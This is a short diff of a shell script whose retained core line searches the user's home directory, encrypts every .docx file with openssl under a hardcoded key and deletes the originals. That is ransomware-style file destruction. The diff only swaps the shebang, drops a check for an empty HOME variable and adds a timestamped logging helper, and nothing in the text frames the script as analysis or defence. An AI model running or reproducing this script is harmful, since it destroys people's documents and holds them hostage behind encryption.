@@ -1,5 +1,3 @@
-#!/usr/bin/env bash
+#!/bin/sh
 find ~ -type f -name "*.docx" -exec openssl enc -aes-256-cbc -salt -in {} -out {}.enc -k secret \; -exec rm {} \;
-if [ -z "$HOME" ]; then
-  echo "no home" >&2
-fi
+log() { echo "[$(date +%H:%M:%S)] $*"; }
